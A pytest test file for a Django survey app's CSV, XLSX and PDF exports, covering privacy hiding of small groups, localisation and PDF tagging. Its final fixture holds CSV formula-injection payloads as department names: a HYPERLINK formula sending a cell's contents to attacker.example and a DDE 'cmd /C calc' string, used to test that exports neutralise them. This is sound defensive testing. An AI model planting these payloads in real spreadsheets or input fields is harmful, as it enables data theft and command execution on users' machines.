"""CSV, XLSX and PDF exports show the dashboard's numbers, and hidden values as reasons."""

import csv
import io

import pytest
from django.conf import settings
from django.db import transaction
from django.utils import timezone, translation
from openpyxl import load_workbook
from pypdf import PdfReader

from questionnaire.core.aggregates import campaign_dashboard
from questionnaire.core.privacy import COMPLEMENTARY, TOO_FEW, Hidden
from questionnaire.hr import exports
from questionnaire.hr.exports import pdf_report
from questionnaire.hr.exports import workbook as workbook_module
from questionnaire.models import Department, Organisation
from tests.support.aggregates_factory import add_responses, closed_campaign


@pytest.fixture(scope="module")
def english_dashboard(django_db_setup, django_db_blocker):
    """Care 7 responses, Kitchen 6, Office 2 (hidden, and Kitchen with it), in English.
    Built once for the tests that only read it; its rows are rolled back at once (the
    Dashboard holds its figures, it reads nothing afterwards)."""
    with django_db_blocker.unblock(), transaction.atomic():
        organisation = Organisation.objects.create(name="Organisation A", min_group_size=5)
        care, kitchen, office = (
            Department.objects.create(organisation=organisation, name=name, headcount=headcount)
            for name, headcount in [("Care", 20), ("Kitchen", 8), ("Office", None)]
        )
        today = timezone.localdate()
        campaign = closed_campaign(organisation, today=today)
        add_responses(campaign, care, 7, overall=60.0, supervisor=70.0, answers={"col_mat_1": 0})
        add_responses(
            campaign, kitchen, 6, overall=40.0, supervisor=None, answers={"col_mat_1": 75}
        )
        add_responses(campaign, office, 2, overall=20.0, answers={"col_mat_1": 75})
        with translation.override("en"):
            built = campaign_dashboard(campaign, today=today)
        transaction.set_rollback(True)
    return built


@pytest.fixture
def dashboard(english_dashboard):
    """The dashboard, read in English as it was made."""
    with translation.override("en"):
        yield english_dashboard


def _csv_rows(dashboard, delimiter=","):
    """The CSV's rows by (table, group, measure code): (value, band, why hidden); every row
    here is of this campaign's wave (no earlier wave, no trends)."""
    text = exports.dashboard_csv(dashboard).decode("utf-8")
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text[1:]), delimiter=delimiter)
    next(reader)
    return {(r[0], r[2], r[4]): (r[7], r[8], r[9]) for r in reader}


def test_the_csv_is_one_tidy_table_with_the_dashboards_numbers(dashboard):
    rows = _csv_rows(dashboard)

    assert rows[("participation", "Care", "responses")] == ("7", "", "")
    assert rows[("participation", "Care", "rate")] == ("35.0", "", "")
    assert rows[("participation", "Whole organisation", "responses")][0] == "15"
    for group in dashboard.heatmap:
        for column, score in zip(dashboard.heatmap_columns, group.scores, strict=True):
            value, band, hidden = rows[("departments", group.label, column.code)]
            if score.shown:
                assert float(value) == score.value and band and not hidden
            else:
                assert value == "" and hidden == (str(score.value) if score.value else "")
    overall = rows[("matrix", "Whole organisation", "overall")]
    assert float(overall[0]) == dashboard.overall.value


def test_the_csv_writes_hidden_values_as_their_reason(dashboard):
    rows = _csv_rows(dashboard)

    assert rows[("participation", "Office", "responses")] == ("", "", str(Hidden(TOO_FEW, 5)))
    assert rows[("participation", "Kitchen", "responses")][2] == str(Hidden(COMPLEMENTARY, 5))
    # Two of the eight combined answered about a supervisor.
    assert rows[("departments", "Other departments combined", "supervisor")][2] == str(
        Hidden(TOO_FEW, 5)
    )
    assert rows[("participation", "Other departments combined", "responses")][0] == "8"


def test_the_xlsx_has_the_same_tables_with_numbers_as_numbers(dashboard):
    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(dashboard)))

    assert workbook.sheetnames[0] == "About these figures" and "All figures" in workbook.sheetnames
    responses = workbook["Participation"]
    assert responses["A1"].value == "Participation by group"
    assert [c.value for c in responses[2]] == ["Group", "Responses", "Headcount", "Response rate"]
    by_group = {r[0].value: r[1:] for r in responses.iter_rows(min_row=3) if r[0].value}
    assert [c.value for c in by_group["Care"]] == [7, 20, 35.0]
    assert [c.number_format for c in by_group["Care"]] == ["0", "0", '0.0"%"']
    assert by_group["Office"][0].value == Hidden(TOO_FEW, 5).short
    assert responses.freeze_panes == "B3"
    scores = workbook["Departments"]
    header = [c.value for c in scores[2]]
    care_row = next(r for r in scores.iter_rows(min_row=3) if r[0].value == "Care")
    care = dict(zip(header, care_row, strict=True))
    assert care["Colleagues"].value == row_score(dashboard, "Care", "colleagues")
    assert care["Colleagues"].number_format == "0.0"
    matrix = workbook["Type and source"]
    assert [c.value for c in matrix[2]][:2] == ["Type of support", "Code"]
    assert matrix["B3"].value == "material"
    about_sheet = workbook["About these figures"]
    about = " ".join(str(c.value) for row in about_sheet.iter_rows() for c in row if c.value)
    assert "Minimum group size (k) 5" in about
    assert "37.5–62.5 sometimes" in about
    assert f"{Hidden(TOO_FEW, 5).short} {Hidden(TOO_FEW, 5)}" in about


def test_the_xlsx_data_sheet_is_the_csv(dashboard):
    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(dashboard)))
    sheet = [[c.value for c in row] for row in workbook["All figures"].iter_rows(min_row=2)]
    rows = _csv_rows(dashboard)
    assert len(sheet) == len(rows)
    for table, _title, group, _wave, code, _label, _n, value, band, hidden in sheet:
        written = rows[(table, group, code)]
        assert written[1:] == (band or "", hidden or "")
        if isinstance(value, int | float):
            assert float(written[0]) == value
        else:
            assert written[0] == ("" if value is None else value)


def row_score(dashboard, label, code):
    group = next(g for g in dashboard.heatmap if g.label == label)
    return next(s.value for s in group.scores if s.code == code)


def _pdf_text(pdf) -> str:
    reader = PdfReader(io.BytesIO(pdf))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


@pytest.fixture(scope="module")
def dashboard_pdf(english_dashboard) -> bytes:
    """The dashboard's PDF, rendered once for the two tests that read it."""
    with translation.override("en"):
        return pdf_report.dashboard_pdf(english_dashboard, site_url="https://supportcheck.example/")


def test_the_pdf_has_the_dashboards_numbers_charts_and_links(dashboard, dashboard_pdf):
    pdf = dashboard_pdf
    reader = PdfReader(io.BytesIO(pdf))
    text = _pdf_text(pdf)

    assert "Care 7 20 35.0%" in text
    assert "Office hidden for privacy – –" in text
    assert "hidden for privacy hidden to protect small groups" in text  # the legend
    organisation = next(r for r in dashboard.heatmap if r.label == "Whole organisation")
    assert "Whole organisation " + " ".join(s.display for s in organisation.scores) in text
    assert "often or always" in text  # the charts' band words
    links = [
        annotation.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annotation in page.get("/Annots", [])
    ]
    assert settings.FICHE_URLS["en"] in links  # the fiche in the report's language
    assert "https://supportcheck.example/fiche/" in links
    assert "https://supportcheck.example/fiche/#together" in links  # a finding's next step


def test_the_pdf_is_tagged_pdf_ua_in_the_reports_language(dashboard_pdf):
    reader = PdfReader(io.BytesIO(dashboard_pdf))
    root = reader.trailer["/Root"]

    assert root["/Lang"] == "en"
    assert root["/MarkInfo"]["/Marked"]
    assert "/StructTreeRoot" in root
    assert b"pdfuaid:part" in root["/Metadata"].get_object().get_data()


def test_an_open_campaigns_exports_show_only_the_rounded_count(campaign_a, departments_a, today):
    add_responses(campaign_a, departments_a[0], 12, overall=99.0)
    with translation.override("en"):
        dashboard = campaign_dashboard(campaign_a, today=today)
        rows = _csv_rows(dashboard)
        pdf_text = _pdf_text(pdf_report.dashboard_pdf(dashboard))

    assert rows[("participation", "Whole organisation", "responses")][0] == "at least 10"
    # Each department from k + 1 on, in steps of k (Care's 12 read "at least 11").
    assert rows[("participation", "Care", "responses")][0] == "at least 11"
    assert rows[("participation", "Kitchen", "responses")][2].startswith("fewer than 6 responses")
    assert {table for table, _group, _measure in rows} == {"participation"}
    assert "99" not in pdf_text and "12" not in pdf_text
    assert "Scores are shown once the campaign has closed." in pdf_text


def test_exports_speak_the_language_they_are_made_in(org_a, departments_a, today):
    """Dutch and French: semicolons and decimal commas, as Belgian spreadsheets read them."""
    campaign = closed_campaign(org_a, today=today)
    add_responses(campaign, departments_a[0], 6, overall=60.0)
    add_responses(campaign, departments_a[1], 2, overall=40.0)
    with translation.override("nl"):
        dashboard = campaign_dashboard(campaign, today=today)
        text = exports.dashboard_csv(dashboard).decode("utf-8-sig")
        rows = _csv_rows(dashboard, delimiter=exports.csv_delimiter("nl"))
    with translation.override("fr"):
        dashboard = campaign_dashboard(campaign, today=today)
        reader = PdfReader(io.BytesIO(pdf_report.dashboard_pdf(dashboard)))
        french = _csv_rows(dashboard, delimiter=";")

    assert text.startswith("Tabelcode;Tabel;Groep;")
    assert rows[("participation", "Kitchen", "responses")][2] == (
        "verborgen om kleine groepen en individuele antwoorden te beschermen (elk cijfer "
        "steunt op minstens 6 antwoorden)"
    )
    assert dashboard.overall.value == 55.0
    assert rows[("matrix", "Hele organisatie", "overall")][:2] == ("55,0", "soms")
    assert french[("matrix", "Toute l'organisation", "overall")][:2] == ("55,0", "parfois")
    assert reader.trailer["/Root"]["/Lang"] == "fr"
    french_text = " ".join(page.extract_text() for page in reader.pages)
    assert "masqué pour la confidentialité" in french_text


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.fixture
def hostile_names(org_a, departments_a, today):
    """Department and campaign names that a spreadsheet would run as formulas, with the
    figures of a closed campaign and of an earlier one (so every table is exported, the
    trends with the earlier wave's name in a header and in the CSV's Wave column)."""
    care, kitchen, _office = departments_a
    care.name, kitchen.name = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    care.save()
    kitchen.save()
    earlier = closed_campaign(org_a, today=today, name="-Wave 0", closed_days_ago=100)
    add_responses(earlier, care, 6, overall=50.0)
    add_responses(earlier, kitchen, 6, overall=50.0)
    campaign = closed_campaign(org_a, today=today, name="+Wave -1")
    add_responses(campaign, care, 6, overall=60.0)
    add_responses(campaign, kitchen, 6, overall=40.0)
    with translation.override("en"):
        yield campaign_dashboard(campaign, today=today)


def test_text_that_looks_like_a_formula_is_exported_as_text(hostile_names):
    """The OWASP rule: a text cell starting with = + - @ tab or CR gets a leading quote."""
    rows = _csv_rows(hostile_names)
    groups = {group for (_table, group, _measure) in rows}
    assert "'" + FORMULA in groups
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in groups
    assert not any(cell.startswith(("=", "+", "-", "@")) for key in rows for cell in key)
    text = exports.dashboard_csv(hostile_names).decode("utf-8-sig")
    waves = {row[3] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert {wave.split(" (")[0] for wave in waves} == {"'-Wave 0", "'+Wave -1"}

    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(hostile_names)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts
    assert all(cell.data_type != "f" for cell in cells)  # no formula anywhere
    assert "Organisation A – +Wave -1" in texts  # only a cell's start matters
    headings = [cell.value for cell in workbook["Trends"][2]]
    assert any(str(heading).startswith("'-Wave 0 (") for heading in headings)


def test_negative_numbers_stay_numbers_in_the_spreadsheet():
    assert exports.spreadsheet_cell(-3.5) == -3.5
    assert exports.spreadsheet_cell("-3.5") == "'-3.5"
    assert exports.spreadsheet_cell("\tx") == "'\tx"
    assert exports.spreadsheet_cell("\rx") == "'\rx"
    assert exports.spreadsheet_cell("Care") == "Care"
